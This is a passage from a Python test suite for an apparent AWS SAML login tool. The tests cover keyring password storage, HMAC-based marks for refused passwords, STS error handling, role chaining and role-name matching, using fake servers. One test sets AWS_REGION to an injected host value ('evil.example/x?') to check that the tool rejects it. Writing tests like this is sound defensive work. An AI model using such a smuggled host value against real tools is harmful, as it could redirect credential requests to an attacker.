        self.assertEqual(run.code, 0, run)
        self.assertEqual(os.listdir(os.path.join(self.home, ".aws-login", "cookies")), [])
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))

    def test_a_cookie_jar_that_cannot_be_saved_only_warns(self):
        self.write(os.path.join(self.home, ".aws-login", "cookies"), "not a directory")
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["login"], terminal=False)
        self.assert_logged_in(run)
        self.assertIn("cannot save the IdP session", run.stderr)


class KeyringTest(LoginTestCase):
    def setUp(self):
        LoginTestCase.setUp(self)
        self.keyring = FakeKeyring(self.home)
        self.user = "alice@" + self.idp.host_port
        self.configure(username="alice", factor="auto", enable_keyring="true")

    def test_prompted_password_is_stored_then_used(self):
        run = self.tool(["login"], [("Password: ", PASSWORD)], env=self.keyring.env())
        self.assert_logged_in(run)
        self.assertEqual(self.keyring.items(), {"awscli_login " + self.user: PASSWORD})
        self.idp.expire_sessions()
        run = self.tool(["login"], env=self.keyring.env())
        self.assert_logged_in(run)
        self.assertNotIn("Password", run.tty)
        self.assertEqual(self.idp.logins[-1], ("alice", "password"))

    def test_rejected_stored_password_is_asked_again_and_replaced(self):
        self.keyring.set(self.user, "old password")
        run = self.tool(["login"], [("Password: ", PASSWORD)], env=self.keyring.env())
        self.assert_logged_in(run)
        self.assertIn("refused the password stored in the keyring", run.stderr)
        self.assertEqual(self.keyring.items()["awscli_login " + self.user], PASSWORD)

    def test_missing_keyring_module_is_said_once_then_asked(self):
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertEqual(run.stderr.count("keyring module is not available"), 1)

    def test_in_process_with_keyring_in_sys_modules(self):
        in_process_keyring(self, {("awscli_login", self.user): PASSWORD})
        master, slave = os.openpty()
        self.addCleanup(os.close, master)
        self.addCleanup(os.close, slave)
        terminal = aws_login.Terminal(os.ttyname(slave))
        self.addCleanup(terminal.close)
        credentials, role = aws_login.login(aws_login.read_profile("default"), terminal)
        self.assertEqual((role.arn, credentials.access_key_id),
                         (ADMIN, self.sts.issued[-1]["AccessKeyId"]))
        self.assertEqual(aws_login._parse_role_value(self.idp.users["alice"]["roles"][0]), role)


class RefusedPasswordTest(LoginTestCase):
    """A stored password the IdP refused is sent once, never again without a person."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.keyring = FakeKeyring(self.home)
        os.environ.update(self.keyring.env())
        self.user = "alice@" + self.idp.host_port
        self.refused = os.path.join(self.home, ".aws-login", "refused")
        self.write(os.environ["AWS_CONFIG_FILE"], "")

    def process_mode(self, **options):
        self.configure(username="alice", factor="auto", **options)
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertEqual(run.code, 0, run)

    def serve(self, terminal=False, answers=()):
        """credential_process as botocore runs it (see CredentialProcessTest.serve)."""
        import configparser
        import shlex
        parser = configparser.RawConfigParser()
        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
        command = shlex.split(parser.get("default", "credential_process"))
        return run_tool(command[1:], answers, env=dict(os.environ), terminal=terminal,
                        argv_prefix=command[:1])

    def passwords_sent(self):
        return [_parse_basic(r["authorization"])[1] for r in self.idp.requests
                if r["authorization"]]

    def assert_refused_in_one_line(self, run, where):
        self.assertEqual((run.code, run.stdout), (11, ""), run)
        lines = run.stderr.strip().splitlines()
        self.assertEqual(len(lines), 1, run.stderr)
        self.assertRegex(lines[0], r"^aws_login: error: the IdP refused the password stored "
                                   r"in %s( earlier)?, so it is not sent again until you log "
                                   r"in .*: run `python3 \S*aws_login.py login`"
                                   r"(; the IdP refused .*)?$" % where)

    def assert_renews_without_a_person(self, password):
        """The IdP session ended and the cache is short: the stored password is used."""
        self.idp.expire_sessions()
        sent = len(self.passwords_sent())
        run = self.serve()
        self.assertEqual(run.code, 0, run)
        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(self.passwords_sent()[sent:], [password])

    @slow
    def test_keyring_password_refused_once_then_a_login_asks(self):
        self.keyring.set(self.user, "old password")
        self.process_mode(enable_keyring="true")
        runs = [self.serve() for _ in range(6)] + [self.tool(["login"], terminal=False)]
        for run in runs:
            self.assert_refused_in_one_line(run, "the keyring")
        self.assertIn("in the keyring, so it is not sent again", runs[0].stderr)
        self.assertTrue(runs[0].stderr.endswith(
            "login`; the IdP refused the login (Responder/AuthnFailed: WRONGUSERPASS)\n"),
            runs[0].stderr)
        for run in runs[1:]:
            self.assertIn("in the keyring earlier, so", run.stderr)
        self.assertEqual(self.passwords_sent(), ["old password"])
        mark = os.path.join(self.refused, "default.keyring")
        self.assertEqual(os.stat(mark).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(self.refused).st_mode & 0o777, 0o700)
        self.assertTrue(self.read(mark).startswith(
            aws_login._REFUSED_HEADER + "\nuser %s\nhmac-sha256 " % self.user))
        self.sts.clock = lambda: time.time() - 3600 + 14 * 60   # the cache wants renewing
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assertEqual(run.code, 0, run)
        self.assertIn("refused the password stored in the keyring earlier", run.stderr)
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
        self.assertFalse(os.path.exists(mark))
        self.assertEqual(self.keyring.items()["awscli_login " + self.user], PASSWORD)
        self.assert_renews_without_a_person(PASSWORD)

    @slow
    def test_profile_password_refused_once_then_a_login_asks(self):
        self.process_mode(password="old password")
        for _ in range(6):
            self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.assertEqual(self.passwords_sent(), ["old password"])
        mark = os.path.join(self.refused, "default.profile")
        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assertEqual(run.code, 0, run)
        self.assertIn("refused the password stored in the settings of profile default "
                      "earlier", run.stderr)
        self.assertIn("still the one the IdP refused", run.stderr)
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
        self.assertTrue(os.path.exists(mark))   # the settings still hold the refused one
        self.assertEqual(self.serve().code, 0)  # the cache serves
        self.idp.expire_sessions()
        self.sts.clock = time.time
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
        self.configure(username="alice", factor="auto", password=PASSWORD)   # a person fixes it
        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
        self.assert_renews_without_a_person(PASSWORD)
        profile = aws_login.read_profile("default")
        self.assertFalse(aws_login._refused_earlier(profile, "alice", "profile", PASSWORD))
        self.assertTrue(aws_login._refused_earlier(profile, "alice", "profile", "old password"))

    def test_the_same_password_typed_again_lifts_the_mark(self):
        self.process_mode(password="old password")
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.idp.users["alice"]["password"] = "old password"    # the IdP takes it again
        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
        run = self.tool(["login"], [("Password: ", "old password")])
        self.assertEqual(run.code, 0, run)
        self.assertNotIn("still the one", run.stderr)
        self.assertEqual(os.listdir(self.refused), [])
        self.assert_renews_without_a_person("old password")

    def test_a_mark_lapsing_and_refused_again_is_renewed(self):
        self.process_mode(password="old password")
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.configure(username="alice", factor="auto", password="older password")
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.assertEqual(self.passwords_sent(), ["old password", "older password"])

    def test_credential_process_on_a_terminal_asks_instead_of_resending(self):
        self.keyring.set(self.user, "old password")
        self.process_mode(enable_keyring="true")
        self.assert_refused_in_one_line(self.serve(), "the keyring")
        run = self.serve(terminal=True, answers=[("Password: ", PASSWORD)])
        self.assertEqual(run.code, 0, run)
        self.assertIn("needs you to log in again (the IdP refused the password stored in "
                      "the keyring earlier", run.tty)
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
        self.assertEqual(os.listdir(self.refused), [])
        self.assertNotIn(PASSWORD, run.stdout + run.stderr + run.tty)

    def test_password_stdin_lifts_the_keyring_mark(self):
        self.keyring.set(self.user, "old password")
        self.process_mode(enable_keyring="true")
        self.assert_refused_in_one_line(self.serve(), "the keyring")
        run = self.tool(["login", "--password-stdin"], stdin=(PASSWORD + "\n").encode(),
                        terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(os.listdir(self.refused), [])
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])

    def in_process_keyring(self, password):
        return in_process_keyring(self, {("awscli_login", self.user): password})

    def test_python_api_raises_and_sends_nothing_after_the_mark(self):
        store = self.in_process_keyring("old password")
        self.configure(username="alice", factor="auto", enable_keyring="true")
        for _ in range(3):
            with self.assertRaisesRegex(aws_login.InteractionRequired,
                                        "refused the password stored in the keyring"):
                aws_login.get_credentials()
        self.assertEqual(len(self.idp.requests), 1)
        credentials = aws_login.get_credentials(password=PASSWORD)
        self.assertEqual(credentials.access_key_id, self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(store[("awscli_login", self.user)], PASSWORD)
        self.assertEqual(os.listdir(self.refused), [])
        self.idp.expire_sessions()
        aws_login.get_credentials()
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD, PASSWORD])

    def test_the_mark_is_for_that_user_at_that_idp(self):
        store = self.in_process_keyring("old password")
        store[("awscli_login", "bob@" + self.idp.host_port)] = "bob-pass"
        self.configure(username="alice", factor="auto", enable_keyring="true")
        with self.assertRaises(aws_login.InteractionRequired):
            aws_login.get_credentials()
        self.configure(username="bob", factor="auto", enable_keyring="true",
                       role_arn=ADMIN)
        self.assertEqual(aws_login.get_credentials().access_key_id,
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(self.passwords_sent(), ["old password", "bob-pass"])

    def test_a_keyring_that_cannot_store_keeps_the_mark(self):
        store = self.in_process_keyring("old password")

        def refuse(service, user, password):
            raise RuntimeError("locked keyring")
        sys.modules["keyring"].set_password = staticmethod(refuse)
        self.configure(username="alice", factor="auto", enable_keyring="true")
        with self.assertRaises(aws_login.InteractionRequired):
            aws_login.get_credentials()
        said = io.StringIO()
        import contextlib
        with contextlib.redirect_stderr(said):
            aws_login.get_credentials(password=PASSWORD)
        self.assertIn("cannot store the password in the keyring", said.getvalue())
        self.assertEqual(store[("awscli_login", self.user)], "old password")
        self.idp.expire_sessions()
        with self.assertRaises(aws_login.InteractionRequired):
            aws_login.get_credentials()
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])

    def test_refresher_stops_and_logs_a_refused_renewal(self):
        self.configure(username="alice", factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
        expires = aws_login._parse_timestamp(self.credentials()["aws_login_expiration"])
        self.in_process_keyring("old password")
        self.configure(username="alice", factor="auto", enable_keyring="true")
        self.idp.expire_sessions()
        for _ in range(2):
            lines = []
            refresher = aws_login._Refresher("default", aws_login._RefresherJob(
                ADMIN, time.time(), expires.timestamp()), log=lines.append)
            refresher.schedule.next_at = time.time()
            self.assertIsNone(refresher.step())
            self.assertRegex(lines[-1], r"^cannot renew: the IdP refused the password stored "
                                        r"in the keyring.*; stopping")
        self.assertEqual(self.passwords_sent(), [PASSWORD, "old password"])
        self.assertEqual(len(self.sts.requests), 1)

    def test_a_duo_timeout_or_a_network_failure_marks_nothing(self):
        self.in_process_keyring(PASSWORD)
        self.configure(username="alice", factor="push", enable_keyring="true")
        real = aws_login._http_request
        aws_login._http_request = lambda *a, **kw: real(*a, **dict(kw, read_timeout=0.5))
        self.addCleanup(setattr, aws_login, "_http_request", real)
        self.idp.delay = 5          # the push is never approved
        with self.assertRaises(aws_login.AuthenticationError) as caught:
            aws_login.get_credentials()
        self.assertEqual(caught.exception.kind, "timeout")
        self.idp.stop()
        with self.assertRaises(aws_login.NetworkError):
            aws_login.get_credentials()
        self.assertFalse(os.path.exists(self.refused) and os.listdir(self.refused))


class RefusedMarkTest(LoginTestCase):
    """The refused mark is tied to the password itself (an HMAC under a random
    key in our 0700 folder, never the password or a plain hash of it): editing
    the settings for anything else leaves it, a new password lifts it."""

    setUp = RefusedPasswordTest.setUp
    process_mode = RefusedPasswordTest.process_mode
    serve = RefusedPasswordTest.serve
    passwords_sent = RefusedPasswordTest.passwords_sent
    assert_refused_in_one_line = RefusedPasswordTest.assert_refused_in_one_line

    def configure_another_profile(self):
        run = self.tool(["--profile", "other", "configure", "--ecp-endpoint-url", self.idp.url,
                         "--username", "bob"], terminal=False)
        self.assertEqual(run.code, 0, run)

    def test_configure_of_another_profile_or_option_leaves_the_mark(self):
        self.process_mode(password="old password")
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.configure_another_profile()
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.configure(username="alice", factor="auto", password="old password",
                       region="eu-west-1")
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.assertEqual(self.passwords_sent(), ["old password"])

    def test_the_refresher_does_not_resend_after_a_configure(self):
        self.configure(username="alice", factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
        expires = aws_login._parse_timestamp(self.credentials()["aws_login_expiration"])
        self.configure(username="alice", factor="auto", password="old password")
        self.idp.expire_sessions()
        for _ in range(2):
            lines = []
            refresher = aws_login._Refresher("default", aws_login._RefresherJob(
                ADMIN, time.time(), expires.timestamp()), log=lines.append)
            refresher.schedule.next_at = time.time()
            self.assertIsNone(refresher.step())
            self.assertRegex(lines[-1], r"^cannot renew: the IdP refused the password stored "
                                        r"in the settings of profile default.*; stopping")
            self.configure_another_profile()
        self.assertEqual(self.passwords_sent(), [PASSWORD, "old password"])
        self.assertEqual(len(self.sts.requests), 1)

    def test_a_new_password_in_the_keyring_lifts_the_mark_and_the_old_one_stays_refused(self):
        self.keyring.set(self.user, "old password")
        self.process_mode(enable_keyring="true")
        self.assert_refused_in_one_line(self.serve(), "the keyring")
        self.keyring.set(self.user, PASSWORD)      # changed by another program, not by us
        self.sts.clock = lambda: time.time() - 3600 + 14 * 60   # each renewal wants another
        run = self.serve()
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
        self.keyring.set(self.user, "old password")     # the refused one, back again
        self.idp.expire_sessions()
        self.assert_refused_in_one_line(self.serve(), "the keyring")
        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])

    def test_the_mark_holds_no_password_and_no_plain_hash(self):
        self.keyring.set(self.user, "old password")
        self.process_mode(enable_keyring="true")
        self.assert_refused_in_one_line(self.serve(), "the keyring")
        mark_path = os.path.join(self.refused, "default.keyring")
        key_path = os.path.join(self.home, ".aws-login", "refused.key")
        mark = self.read(mark_path)
        lines = mark.split("\n")
        self.assertEqual(lines[:2], [aws_login._REFUSED_HEADER, "user " + self.user])
        self.assertRegex(lines[2], r"^hmac-sha256 [0-9a-f]{64}$")
        for text in ("old password", "alice:old password", self.user + "\nold password"):
            for name in ("md5", "sha1", "sha256", "sha512"):
                digest = hashlib.new(name, text.encode()).digest()
                for form in (digest.hex(), base64.b64encode(digest).decode()):
                    self.assertNotIn(form, mark)
        self.assertNotIn("old password", mark)
        self.assertEqual(os.stat(key_path).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(os.path.dirname(key_path)).st_mode & 0o777, 0o700)
        self.assertNotIn("old password", self.read(key_path))
        # under another key (another home, or the key lost and made again) the
        # same password has another mark: it is keyed, not a hash
        os.unlink(key_path)
        os.unlink(mark_path)
        self.idp.expire_sessions()
        self.assert_refused_in_one_line(self.serve(), "the keyring")
        self.assertNotEqual(self.read(mark_path).split("\n")[2], lines[2])
        self.assertEqual(self.passwords_sent(), ["old password", "old password"])

    def test_a_mark_of_the_earlier_kind_holds_until_a_person_logs_in(self):
        self.process_mode(password="old password")
        self.write(os.path.join(self.refused, "default.profile"),
                   aws_login._REFUSED_HEADER + "\nuser %s\n" % self.user)
        self.configure_another_profile()
        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
        self.assertEqual(self.passwords_sent(), [])


# ---------------------------------------------------------------------------
# Fetching credentials: IdP (saved session, else password and Duo), role, STS
# ---------------------------------------------------------------------------

class FailureTest(LoginTestCase):
    BEFORE = "# keep me\r\n[work]\r\naws_access_key_id = AKIAWORK\r\naws_secret_access_key = w\r\n"

    def setUp(self):
        LoginTestCase.setUp(self)
        self.write(self.credentials_file, self.BEFORE)
        self.configure(username="alice", factor="auto")

    def login_fails(self, code, pattern, answers=(("Password: ", PASSWORD),), args=()):
        run = self.tool(["login"] + list(args), list(answers))
        self.assert_nothing_written(run, code, self.BEFORE)
        self.assertRegex(run.stderr, "^aws_login: error: " + pattern)
        return run

    def test_wrong_password_in_every_style_the_idps_use(self):
        for style, pattern in (("responder", r".*Responder.*WRONGUSERPASS"),
                               ("401", ".*HTTP 401"), ("fault", ".*refused the login"),
                               ("html", ".*HTML page")):
            self.idp.failure_style = style
            self.login_fails(4, pattern, [("Password: ", "wrong")])

    def test_a_401_names_the_duo_factor_that_was_sent(self):
        self.idp.failure_style = "401"
        for factor, words in (("push", "the password or the Duo factor push (HTTP 401)"),
                              ("passcode", "the password or the Duo passcode (HTTP 401)"),
                              ("off", "the username or password (HTTP 401)")):
            self.configure(username="alice", factor=factor, passcode="123456")
            run = self.login_fails(4, "the IdP refused " + re.escape(words),
                                   [("Password: ", "wrong")])
            self.assertNotIn("123456", run.stderr)

    def test_redirect_is_not_followed_and_said_before_the_password_is_asked(self):
        other = FakeIdP().start()
        self.addCleanup(other.stop)
        self.idp.override = (303, {"Location": other.url}, b"")
        run = self.login_fails(5, ".*redirected to 127.0.0.1:%d.*not followed" % other.port,
                               answers=())
        self.assertNotIn("Password", run.tty)
        self.assertEqual(other.requests, [])

    def test_sts_errors_show_code_message_and_advice(self):
        self.sts.queue.append(sts_error("ValidationError", "The requested DurationSeconds "
                                        "exceeds the MaxSessionDuration set for this role."))
        run = self.login_fails(7, "STS refused AssumeRoleWithSAML: ValidationError")
        self.assertIn("lower `duration`", run.stderr)

    def test_sts_throttling_is_retried(self):
        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded"),
                               sts_error("Throttling", "Rate exceeded")])
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertEqual(len(self.sts.requests), 3)
        self.assertIn("[work]\r\naws_access_key_id = AKIAWORK", self.read(self.credentials_file))

    def test_sts_non_xml_and_403(self):
        self.sts.queue.append((403, {"Content-Type": "text/html"}, b"<html>Forbidden</html>"))
        self.login_fails(7, "STS refused AssumeRoleWithSAML: HTTP 403")

    def test_long_term_keys_are_never_overwritten_without_force(self):
        self.configure("work", username="alice", factor="auto")
        run = self.tool(["--profile", "work", "login"])         # refused before any prompt
        self.assert_nothing_written(run, 9, self.BEFORE)
        self.assertNotIn("Password", run.tty)
        run = self.tool(["--profile", "work", "login", "--force"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run, profile="work")
        self.assertTrue(self.read(self.credentials_file).startswith("# keep me\r\n[work]\r\n"))

    def test_untrusted_certificate_then_ca_bundle_then_verification_off(self):
        del os.environ["AWS_CA_BUNDLE"]
        run = self.login_fails(8, ".*not trusted", answers=())    # before any prompt
        self.assertNotIn("Password", run.tty)
        self.assertNotIn("Factor", run.tty)
        self.configure(username="alice", factor="auto", ca_bundle=self.pems["ca"])
        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]),)
        idp = FakeIdP(cert=UNTRUSTED_CERT_PEM, key=UNTRUSTED_KEY_PEM).start()
        self.addCleanup(idp.stop)
        idp.users = self.idp.users
        self.configure(ecp_endpoint_url=idp.url, verify_ssl_certificate="false")
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertIn("TLS CERTIFICATE CHECKING IS OFF", run.stderr)

    def test_connection_refused_and_timeout(self):
        # Bound but not listening: connections are refused, and no other test's
        # server (they run in parallel) can take the port while this one holds it.
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        self.addCleanup(sock.close)
        port = sock.getsockname()[1]
        self.configure(ecp_endpoint_url="https://127.0.0.1:%d/ecp" % port)
        run = self.login_fails(8, ".*connection refused", answers=())
        self.assertNotIn("Password", run.tty)

    @readme_route
    def test_ctrl_c_at_a_prompt_exits_130_and_writes_nothing(self):
        run = self.tool(["login"], [("Password: ", b"\x03")])
        self.assertEqual(run.code, aws_login._EXIT_INTERRUPTED, run)
        self.assertEqual(run.stderr.strip(), "aws_login: interrupted")
        self.assertTrue(run.echo)                   # the terminal echoes again
        self.assertEqual(self.read(self.credentials_file), self.BEFORE)

    def test_silent_server_times_out(self):
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        self.addCleanup(server.close)
        url = "http://127.0.0.1:%d/ecp" % server.getsockname()[1]
        started = time.time()
        with self.assertRaisesRegex(aws_login.NetworkError, "timed out"):
            aws_login._http_request(url, b"x", read_timeout=0.5)
        self.assertLess(time.time() - started, 5)

    def test_debug_shows_a_traceback_but_no_secret(self):
        self.idp.failure_style = "401"
        run = self.tool(["--debug", "login"], [("Password: ", "wrong " + PASSWORD)])
        self.assertEqual(run.code, 4)
        self.assertIn("Traceback", run.stderr)
        self.assertIn("debug: POST " + self.idp.url, run.stderr)
        self.assertNotIn(PASSWORD, run.stderr)
        self.assertNotIn(base64.b64encode(("alice:wrong " + PASSWORD).encode()).decode(),
                         run.stderr)


class FetchingTest(LoginTestCase):
    """What the STS call is built from: the region, the partition, the session name."""

    def test_region_from_the_environment_is_checked(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["login"], terminal=False, env={"AWS_REGION": "evil.example/x?"})
        self.assert_nothing_written(run, 3)
        self.assertEqual(self.idp.requests, [])

    def test_partition_from_the_role_or_the_region(self):
        p = aws_login.Profile("p", {"ecp_endpoint_url": "https://idp/"})
        self.assertEqual(aws_login._profile_partition(p), "aws")
        os.environ["AWS_REGION"] = "cn-northwest-1"
        self.assertEqual(aws_login._profile_partition(p), "aws-cn")
        p.region = "us-gov-east-1"
        self.assertEqual(aws_login._profile_partition(p), "aws-us-gov")
        self.assertEqual(aws_login._profile_partition(p, ADMIN), "aws")

    def test_debug_says_whether_the_idp_session_was_reused(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["--debug", "login"])        # on a terminal: the first request asks
        self.assertIn("aws_login: debug: IdP session not accepted", run.stderr)
        run = self.tool(["--debug", "login", "--force"], terminal=False)
        self.assertIn("aws_login: debug: IdP session reused", run.stderr)
        self.idp.override = (404, {"Content-Type": "text/html"}, b"<html>gone</html>")
        run = self.tool(["--debug", "login", "--force"], terminal=False)
        self.assertIn("aws_login: debug: IdP session not accepted: the IdP answered HTTP 404",
                      run.stderr)         # the cookies sent may be why: the password is tried
        self.assertEqual(run.code, 5, run)

    def test_session_names_are_cleaned_for_sts(self):
        clean = aws_login._session_name
        self.assertEqual(clean("alice"), "alice")
        self.assertEqual(clean("jos\u00e9 m\u00fcller/x"), "jos--m-ller-x")
        self.assertEqual(clean("a" * 100), "a" * 64)
        self.assertEqual(clean("x"), "aws_login")       # STS wants 2 to 64 characters
        self.assertEqual(clean("ab"), "ab")
        self.assertEqual(clean(None), "aws_login")
        self.assertEqual(clean("a=b,c.d@e-f+g_h"), "a=b,c.d@e-f+g_h")


class ChainingTest(LoginTestCase):
    TARGET = "arn:aws:iam::%s:role/Deploy" % ACCOUNT_B

    def setUp(self):
        LoginTestCase.setUp(self)
        self.sts.external_ids[self.TARGET] = "ext-42"

    def test_login_chains_into_the_configured_role(self):
        self.configure(username="bob", factor="auto", password="bob-pass",
                       chain_role_arn=self.TARGET, chain_external_id="ext-42")
        run = self.tool(["login"], [("Selection: ", "0")])
        self.assertEqual(run.code, 0, run)
        self.assertIn("    (then, through it, %s)" % self.TARGET, run.tty)
        self.assertIn("Logged in as Deploy in account %s through Admin (account %s)"
                      % (ACCOUNT_B, ACCOUNT_A), run.stderr)
        chained = self.sts.issued[-1]
        self.assertTrue(chained["SessionToken"].startswith("FwoChained"))
        section = self.credentials()
        self.assertEqual(section["aws_access_key_id"], chained["AccessKeyId"])
        self.assertEqual((section["aws_login_role_arn"], section["aws_login_chained_role_arn"]),
                         (ADMIN, self.TARGET))
        form = self.sts.requests[-1]["form"]
        self.assertEqual((form["Action"], form["RoleArn"], form["ExternalId"],
                          form["RoleSessionName"], form["DurationSeconds"]),
                         ("AssumeRole", self.TARGET, "ext-42", "bob", "3600"))
        whoami = json.loads(self.tool(["whoami", "--output", "json"], terminal=False).stdout)
        self.assertEqual(whoami["Arn"], "arn:aws:sts::%s:assumed-role/Deploy/bob" % ACCOUNT_B)

    def test_wrong_external_id_is_sts_access_denied(self):
        self.configure(username="alice", factor="auto", password=PASSWORD,
                       chain_role_arn=self.TARGET, chain_external_id="nope")
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 7)
        self.assertIn("AccessDenied", run.stderr)

    def test_refresher_and_credential_process_chain_too(self):
        self.configure(username="alice", factor="auto", password=PASSWORD,
                       chain_role_arn=self.TARGET, chain_external_id="ext-42")
        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
        refresher = aws_login._Refresher("default", aws_login._RefresherJob(ADMIN, 0, 1))
        self.assertIsNotNone(refresher.step())
        self.assertEqual(self.credentials()["aws_access_key_id"],
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(self.sts.requests[-1]["form"]["Action"], "AssumeRole")
        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
        data = json.loads(self.tool(["credential-process"], terminal=False).stdout)
        self.assertEqual(data["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
        self.assertTrue(data["SessionToken"].startswith("FwoChained"))

    def test_a_chained_role_refused_gets_its_own_advice(self):
        advice = aws_login._sts_advice("AccessDenied", "not authorized", "AssumeRole")
        self.assertIn("chain_external_id", advice)
        self.assertIn("trust policy", advice)
        self.assertNotEqual(advice, aws_login._sts_advice("AccessDenied", "x",
                                                          "AssumeRoleWithSAML"))


class AliasTest(LoginTestCase):
    def test_menu_shows_account_names(self):
        self.write(os.path.join(self.home, ".aws-login", "alias"),
                   "[accounts]\n%s = prod\n" % ACCOUNT_A)
        self.configure(username="bob", factor="auto", password="bob-pass")
        run = self.tool(["login"], [("Selection: ", "2")])
        self.assertIn("    Account: prod (%s)\r\n" % ACCOUNT_A, run.tty)
        self.assertIn("    Account: %s\r\n" % ACCOUNT_B, run.tty)


ADMIN_B = "arn:aws:iam::%s:role/Admin" % ACCOUNT_B


class RoleNameTest(unittest.TestCase):
    ROLES = [aws_login.Role(ADMIN, PROVIDER_A), aws_login.Role(DEV, PROVIDER_A),
             aws_login.Role(READONLY, PROVIDER_B), aws_login.Role(ADMIN_B, PROVIDER_B)]
    ALIASES = {ACCOUNT_A: "prod", ACCOUNT_B: "Staging"}

    def match(self, wanted):
        return aws_login._match_role(self.ROLES, wanted, self.ALIASES).arn

    def test_every_form_in_any_case(self):
        for wanted, arn in [
                (DEV, DEV), (DEV.upper(), DEV), (ADMIN_B.lower(), ADMIN_B),
                ("team/Dev", DEV), ("TEAM/DEV", DEV), ("dev", DEV), ("Dev ", DEV),
                ("ReadOnly", READONLY), ("readonly", READONLY),
                ("%s/admin" % ACCOUNT_A, ADMIN), ("%s/ADMIN" % ACCOUNT_B, ADMIN_B),
                ("%s/team/dev" % ACCOUNT_A, DEV), ("%s/Dev" % ACCOUNT_A, DEV),
                ("PROD/Admin", ADMIN), ("staging/admin", ADMIN_B), ("prod/team/Dev", DEV),
                ("prod/dev", DEV), ("STAGING/readonly", READONLY)]:
            self.assertEqual(self.match(wanted), arn, wanted)

    def test_ambiguous_names_list_the_matches(self):
        for wanted in ("Admin", "admin", "ADMIN"):
            with self.assertRaises(aws_login.RoleError) as caught:
                self.match(wanted)
            self.assertEqual(str(caught.exception),
                             "role %s is ambiguous: it names %s, %s; give ACCOUNT/NAME or the "
                             "ARN" % (wanted, ADMIN, ADMIN_B))
            self.assertEqual(caught.exception.exit_code, 6)

    def test_unknown_names_list_the_roles_offered(self):
        offered = ", ".join(r.arn for r in self.ROLES)
        for wanted in ("Nope", "/Admin", "team", "999999999999/Admin", "prod/ReadOnly",
                       "staging/team/Dev", "dev/Admin", "arn:aws:iam::%s:role/Dev" % ACCOUNT_A,
                       "Admin/prod", "%s/Admin" % ACCOUNT_A[:-1], "eam/Dev"):
            with self.assertRaises(aws_login.RoleError) as caught:
                self.match(wanted)
            self.assertEqual(str(caught.exception), "the IdP does not offer role %s; it "
                             "offers: %s" % (wanted, offered))
        # no alias file: an alias is only an alias when the file says so
        with self.assertRaises(aws_login.RoleError):
            aws_login._match_role(self.ROLES, "prod/Admin")
        self.assertEqual(aws_login._match_role(self.ROLES, "%s/Admin" % ACCOUNT_A).arn, ADMIN)

    def test_an_empty_alias_names_nothing(self):
        aliases = {ACCOUNT_A: "", ACCOUNT_B: " "}
        for wanted in ("/Admin", " /ReadOnly"):
            with self.assertRaises(aws_login.RoleError):
                aws_login._match_role(self.ROLES, wanted, aliases)

    def test_choose_role_prefers_the_exact_arn_and_matches_names(self):
        self.assertEqual(aws_login._choose_role(self.ROLES, DEV).arn, DEV)
        self.assertEqual(aws_login._choose_role(self.ROLES, "readonly").arn, READONLY)
        with self.assertRaisesRegex(aws_login.RoleError, "ambiguous"):
            aws_login._choose_role(self.ROLES, "Admin")

    def test_role_names_from_the_command_line_are_checked(self):
        self.assertEqual(aws_login._check_role_name(" team/Dev "), "team/Dev")
        self.assertEqual(aws_login._check_role_name(DEV), DEV)
        self.assertEqual(aws_login._check_role_name(DEV.upper()), DEV.upper())
        with self.assertRaises(aws_login.ConfigError):
